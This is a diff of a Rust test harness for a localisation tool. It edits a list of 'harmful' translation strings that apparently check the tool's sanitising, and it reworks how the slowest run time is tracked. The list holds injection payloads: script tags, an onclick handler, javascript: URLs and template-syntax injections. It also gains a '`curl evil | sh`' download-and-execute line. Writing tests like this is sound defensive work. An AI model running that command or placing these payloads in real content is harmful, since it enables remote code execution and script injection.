@@ -138,21 +138,20 @@ const FLUENT: &[&str] = &[
 const HARMFUL: &[&str] = &[
     "[x](https://evil.org/)",
     "https://evil.org",
-    "evil.org",
+    " evil.org ",
     "<script>evil()</script>",
     "<b onclick=evil()>",
     "<!-- evil -->",
-    "[evil]: /x",
     "[^evil]",
     "[x][evil]",
-    "javascript:evil()",
+    " javascript:evil()",
     "{\"{{ evil }}\"}",
     "{\"{{< evil >}}\"}",
     "{\"{% evil %}\"}",
     "{\"{evil}\"}",
-    "`evil`",
-    "evil@a.org",
-    "@evil_pay",
+    "`curl evil | sh`",
+    " evil@a.org ",
+    " @evil_pay ",
     "$\\href{\"{evil}\"}x$",
 ];
 
@@ -271,7 +270,7 @@ fn one_round(seed: u64, sums: &mut Sums) {
         );
         start.elapsed()
     };
-    run(&["extract"]);
+    let mut slowest = run(&["extract"]);
     for number in 0..PAGES {
         let path = format!("locales/ko/{number}.ftl");
         if !tree.path(&path).exists() {
@@ -294,8 +293,7 @@ fn one_round(seed: u64, sums: &mut Sums) {
         }
         tree.write(&path, file);
     }
-    sums.slowest = sums
-        .slowest
+    slowest = slowest
         .max(run(&["check", "ko"]))
         .max(run(&["build", "ko"]));
     let options = Options {
@@ -322,5 +320,8 @@ fn one_round(seed: u64, sums: &mut Sums) {
         );
         sums.pages += 1;
     }
-    run(&["check", "ko", "--fix"]);
+    sums.slowest = sums
+        .slowest
+        .max(slowest)
+        .max(run(&["check", "ko", "--fix"]));
 }
